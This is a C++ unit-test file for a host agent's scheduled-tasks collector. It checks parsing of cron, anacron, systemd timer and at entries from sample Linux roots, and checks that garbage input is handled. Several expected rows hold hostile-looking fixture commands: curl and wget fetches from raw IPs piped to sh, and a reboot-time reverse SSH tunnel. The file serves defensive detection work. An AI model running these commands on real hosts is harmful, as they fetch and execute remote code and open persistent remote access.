#include "agent/collectors/scheduled_tasks.h"

#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "agent/collectors/registry.h"

namespace rampart::agent {
namespace {

HostView Root(const char* name) {
  auto h = HostView::Open(std::string(RAMPART_SOURCE_DIR "/tests/testdata/") + name);
  EXPECT_TRUE(h.ok());
  return std::move(h).value();
}

// "user|schedule|command|source|type" of every row, in order.
std::vector<std::string> Summary(const Json& rows) {
  std::vector<std::string> out;
  for (const Json& r : rows.as_array()) {
    out.push_back(r.GetString("user") + "|" + r.GetString("schedule") + "|" +
                  r.GetString("command") + "|" + r.GetString("source") + "|" + r.GetString("type"));
  }
  return out;
}

Json FindBySourceLine(const Json& rows, std::string_view source, std::int64_t line) {
  for (const Json& r : rows.as_array()) {
    const Json* l = r.Find("line");
    if (r.GetString("source") == source && l != nullptr && l->is_int() && l->as_int() == line) {
      return r;
    }
  }
  ADD_FAILURE() << "no row " << source << ":" << line;
  return Json::MakeObject();
}

Json FindBySource(const Json& rows, std::string_view source) {
  for (const Json& r : rows.as_array()) {
    if (r.GetString("source") == source) return r;
  }
  ADD_FAILURE() << "no row from " << source;
  return Json::MakeObject();
}

bool Enabled(const Json& row) {
  const Json* v = row.Find("enabled");
  return v != nullptr && v->is_bool() && v->as_bool();
}

TEST(DebianTasks, ListsEveryCronTimerAndAtEntryExactly) {
  const HostView host = Root("root-debian");
  const Json rows = CollectScheduledTasks(host);
  for (const Json& r : rows.as_array()) EXPECT_TRUE(ValidateRow(r, ScheduledTasksSchema()).ok());
  const std::vector<std::string> expected = {
      "root|17 * * * *|cd / && run-parts --report /etc/cron.hourly|/etc/crontab|cron",
      "root|25 6 * * *|test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; "
      "}|"
      "/etc/crontab|cron",
      "root|47 6 * * 7|test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; "
      "}|"
      "/etc/crontab|cron",
      "root|52 6 1 * *|test -x /usr/sbin/anacron || { cd / && run-parts --report "
      "/etc/cron.monthly; "
      "}|/etc/crontab|cron",
      "root|30 3 * * 0|test -e /run/systemd/system || SERVICE_MODE=1 "
      "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron|/etc/cron.d/e2scrub_all|cron",
      "root|10 3 * * *|test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r|"
      "/etc/cron.d/e2scrub_all|cron",
      "root|@reboot|/usr/local/bin/relay-start|/etc/cron.d/local-jobs|cron",
      "www-data|@daily|/usr/local/bin/rotate-uploads|/etc/cron.d/local-jobs|cron",
      "root|*/5 * * * *|/usr/local/bin/healthcheck >/dev/null 2>&1|/etc/cron.d/local-jobs|cron",
      "deploy|0 9-17/2 * jan,Jul mon-fri|/opt/deploy/bin/sync --quiet|/etc/cron.d/local-jobs|cron",
      "root|15 4 1,15 * *|mysqldump --all-databases | gzip > /var/backups/db-$(date +%F).gz|"
      "/etc/cron.d/local-jobs|cron",
      "root|0 0 * * *|mail -s \"nightly report\" ops|/etc/cron.d/local-jobs|cron",
      "root|30 2 * * 6|/usr/sbin/logrotate /etc/logrotate.conf|/etc/cron.d/local-jobs|cron",
      "alice|*/10 * * * *|/home/alice/bin/poll.sh|/var/spool/cron/crontabs/alice|cron",
      "alice|@reboot|/home/alice/.local/bin/tunnel -R 9000:localhost:22 relay.example.net|"
      "/var/spool/cron/crontabs/alice|cron",
      "root|0 3 * * sun|/usr/local/sbin/certbot-renew --quiet|/var/spool/cron/crontabs/root|cron",
      "root|1 5|run-parts --report /etc/cron.daily|/etc/anacrontab|cron",
      "root|7 10|run-parts --report /etc/cron.weekly|/etc/anacrontab|cron",
      "root|@monthly 15|run-parts --report /etc/cron.monthly|/etc/anacrontab|cron",
      "root|@hourly|/etc/cron.hourly/sync-mirror|/etc/cron.hourly/sync-mirror|cron",
      "root|@daily|/etc/cron.daily/logrotate|/etc/cron.daily/logrotate|cron",
      "root|@weekly|/etc/cron.weekly/man-db|/etc/cron.weekly/man-db|cron",
      "root|OnCalendar=*-*-* 6,18:00|/usr/lib/apt/apt.systemd.daily update|"
      "/lib/systemd/system/apt-daily.timer|systemd-timer",
      "bob|OnCalendar=*-*-* 02:30:00; OnCalendar=Sat *-*-* 04:00:00|"
      "/usr/local/bin/backup.sh --full /srv|/etc/systemd/system/backup.timer|systemd-timer",
      "root|OnCalendar=weekly|/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose "
      "--quiet-unsupported|/lib/systemd/system/fstrim.timer|systemd-timer",
      "root|OnBootSec=15min; OnUnitActiveSec=1d|systemd-tmpfiles --clean|"
      "/lib/systemd/system/systemd-tmpfiles-clean.timer|systemd-timer",
      "alice|2022-03-04T14:28:00Z|/home/alice/bin/one-off-migration --apply; echo done | wall|"
      "/var/spool/cron/atjobs/a0000101a2b3c4|at",
  };
  EXPECT_EQ(Summary(rows), expected);
}

TEST(DebianTasks, CronRowsCarryLineNumbersAndStdin) {
  const HostView host = Root("root-debian");
  const Json rows = CollectScheduledTasks(host);
  const Json mail = FindBySourceLine(rows, "/etc/cron.d/local-jobs", 8);
  EXPECT_EQ(mail.GetString("stdin"), "Hello,\nthe report is attached.\n");
  EXPECT_TRUE(FindBySourceLine(rows, "/etc/cron.d/local-jobs", 5).Find("stdin")->is_null());
  EXPECT_EQ(FindBySourceLine(rows, "/etc/crontab", 19).GetString("schedule"), "17 * * * *");
  // The line after the binary garbage is still read.
  EXPECT_EQ(FindBySourceLine(rows, "/etc/cron.d/local-jobs", 16).GetString("command"),
            "/usr/sbin/logrotate /etc/logrotate.conf");
}

TEST(DebianTasks, IgnoresHiddenAndBackupFiles) {
  const HostView host = Root("root-debian");
  const std::string all = CollectScheduledTasks(host).Dump();
  EXPECT_EQ(all.find("should-not-appear"), std::string::npos);
  EXPECT_EQ(all.find(".placeholder"), std::string::npos);
  EXPECT_EQ(all.find("garbage"), std::string::npos);
  EXPECT_EQ(all.find("binary-minute"), std::string::npos);
  EXPECT_EQ(all.find("not-a-cron-special"), std::string::npos);
  EXPECT_EQ(all.find("out-of-range"), std::string::npos);
}

TEST(DebianTasks, TimerRowsNameTheirUnitAndEnabledState) {
  const HostView host = Root("root-debian");
  const Json rows = CollectScheduledTasks(host);
  const Json apt = FindBySource(rows, "/lib/systemd/system/apt-daily.timer");
  EXPECT_EQ(apt.GetString("unit"), "apt-daily.service");
  EXPECT_TRUE(Enabled(apt));  // /etc/systemd/system/timers.target.wants
  EXPECT_FALSE(Enabled(FindBySource(rows, "/lib/systemd/system/fstrim.timer")));
  EXPECT_TRUE(Enabled(FindBySource(rows, "/lib/systemd/system/systemd-tmpfiles-clean.timer")));
  EXPECT_TRUE(FindBySource(rows, "/etc/crontab").Find("unit")->is_null());
  // A run-parts script without the executable bit does not run.
  EXPECT_FALSE(Enabled(FindBySource(rows, "/etc/cron.hourly/sync-mirror")));
  EXPECT_TRUE(Enabled(FindBySource(rows, "/etc/cron.daily/logrotate")));
}

TEST(RpmTasks, ListsSpoolCronDAnacronTimerWithUnitAndAtJobs) {
  const HostView host = Root("root-rpm");
  const Json rows = CollectScheduledTasks(host);
  for (const Json& r : rows.as_array()) EXPECT_TRUE(ValidateRow(r, ScheduledTasksSchema()).ok());
  const std::vector<std::string> expected = {
      "root|01 * * * *|run-parts /etc/cron.hourly|/etc/cron.d/0hourly|cron",
      "root|0 1 * * Sun|/usr/sbin/raid-check|/etc/cron.d/raid-check|cron",
      "ops|30 1 * * 1-5|/home/ops/bin/report.sh|/var/spool/cron/ops|cron",
      "ops|0 */6 * * *|/usr/bin/curl -fsS http://198.51.100.7/x | sh|/var/spool/cron/ops|cron",
      "root|1 5|nice run-parts /etc/cron.daily|/etc/anacrontab|cron",
      "root|7 25|nice run-parts /etc/cron.weekly|/etc/anacrontab|cron",
      "root|@monthly 45|nice run-parts /etc/cron.monthly|/etc/anacrontab|cron",
      "root|@hourly|/etc/cron.hourly/0anacron|/etc/cron.hourly/0anacron|cron",
      "root|@daily|/etc/cron.daily/logrotate|/etc/cron.daily/logrotate|cron",
      "root|OnBootSec=10min; OnUnitInactiveSec=1h|/usr/bin/dnf makecache --timer|"
      "/usr/lib/systemd/system/dnf-makecache.timer|systemd-timer",
      "ops|2024-03-04T15:16:00Z|/home/ops/bin/rotate-keys|/var/spool/at/a0000201b2c3d4|at",
  };
  EXPECT_EQ(Summary(rows), expected);
  const Json timer = FindBySource(rows, "/usr/lib/systemd/system/dnf-makecache.timer");
  EXPECT_EQ(timer.GetString("unit"), "dnf-makecache.service");
  EXPECT_TRUE(Enabled(timer));
}

TEST(AlpineTasks, ReadsBusyboxCrontabsAndPeriodicScripts) {
  const HostView host = Root("root-alpine");
  const Json rows = CollectScheduledTasks(host);
  for (const Json& r : rows.as_array()) EXPECT_TRUE(ValidateRow(r, ScheduledTasksSchema()).ok());
  const std::vector<std::string> expected = {
      "root|*/15 * * * *|run-parts /etc/periodic/15min|/etc/crontabs/root|cron",
      "root|0 * * * *|run-parts /etc/periodic/hourly|/etc/crontabs/root|cron",
      "root|0 2 * * *|run-parts /etc/periodic/daily|/etc/crontabs/root|cron",
      "root|0 3 * * 6|run-parts /etc/periodic/weekly|/etc/crontabs/root|cron",
      "root|0 5 1 * *|run-parts /etc/periodic/monthly|/etc/crontabs/root|cron",
      "root|*/2 * * * *|wget -q -O- http://203.0.113.9/k.sh | sh|/etc/crontabs/root|cron",
      "root|@daily|/etc/periodic/daily/backup|/etc/periodic/daily/backup|cron",
  };
  EXPECT_EQ(Summary(rows), expected);  // cron.update (busybox's control file) is not a crontab
}

TEST(ScheduledTasksCollector, IsRegisteredAndDegradesOnAnEmptyRoot) {
  auto c = MakeScheduledTasksCollector();
  EXPECT_EQ(c->name(), "scheduled_tasks");
  EXPECT_EQ(c->shape(), Shape::kRows);
  const HostView host = Root("root-rpm");
  FakeClock clock(std::chrono::system_clock::time_point{});
  auto rows = c->Collect(CollectContext{host, clock, {}});
  ASSERT_TRUE(rows.ok());
  EXPECT_EQ(rows->size(), 11u);
  auto empty = HostView::Open(RAMPART_SOURCE_DIR "/tests/testdata/root-rpm/proc");
  ASSERT_TRUE(empty.ok());
  EXPECT_EQ(CollectScheduledTasks(*empty).size(), 0u);
}

}  // namespace
}  // namespace rampart::agent

namespace rampart::agent {
namespace {

// A scratch root holding hostile files; removed at the end of the test.
class ScratchRoot {
 public:
  ScratchRoot() {
    char tmpl[] = "/tmp/rampart-sched-XXXXXX";
    dir_ = mkdtemp(tmpl);
  }
  ~ScratchRoot() { std::filesystem::remove_all(dir_); }
  ScratchRoot(const ScratchRoot&) = delete;
  ScratchRoot& operator=(const ScratchRoot&) = delete;
  void Write(const std::string& path, const std::string& data) {
    const std::filesystem::path p = dir_ + path;
    std::filesystem::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << data;
  }
  HostView Host() const { return *HostView::Open(dir_); }

 private:
  std::string dir_;
};

TEST(HostileTasks, HugeLinesNulBytesAndBinaryFilesYieldOnlyValidRows) {
  ScratchRoot root;
  std::string crontab = "0 0 * * * root /bin/" + std::string(1 << 20, 'a') + "\n";
  crontab += std::string("1 1 * * * root /bin/nul\0byte\n", 29);
  crontab += "2 2 * * * root /bin/good\n";
  root.Write("/etc/cron.d/hostile", crontab);
  std::string binary(4096, '\0');
  for (std::size_t i = 0; i < binary.size(); ++i) binary[i] = static_cast<char>((i * 131) & 0xff);
  root.Write("/etc/crontab", binary);
  root.Write("/var/spool/cron/crontabs/mallory", binary);
  root.Write("/var/spool/cron/atjobs/a0000101a2b3c4", binary);
  root.Write("/lib/systemd/system/x.timer", binary);
  const Json rows = CollectScheduledTasks(root.Host());
  std::vector<std::string> commands;
  for (const Json& r : rows.as_array()) {
    EXPECT_TRUE(ValidateRow(r, ScheduledTasksSchema()).ok());
    commands.push_back(r.GetString("type") + ":" + r.GetString("command"));
  }
  // The timer and the at job still appear (their names are valid); nothing comes from the garbage
  // lines.
  EXPECT_EQ(commands, (std::vector<std::string>{"cron:/bin/good", "systemd-timer:", "at:"}));
}

}  // namespace
}  // namespace rampart::agent
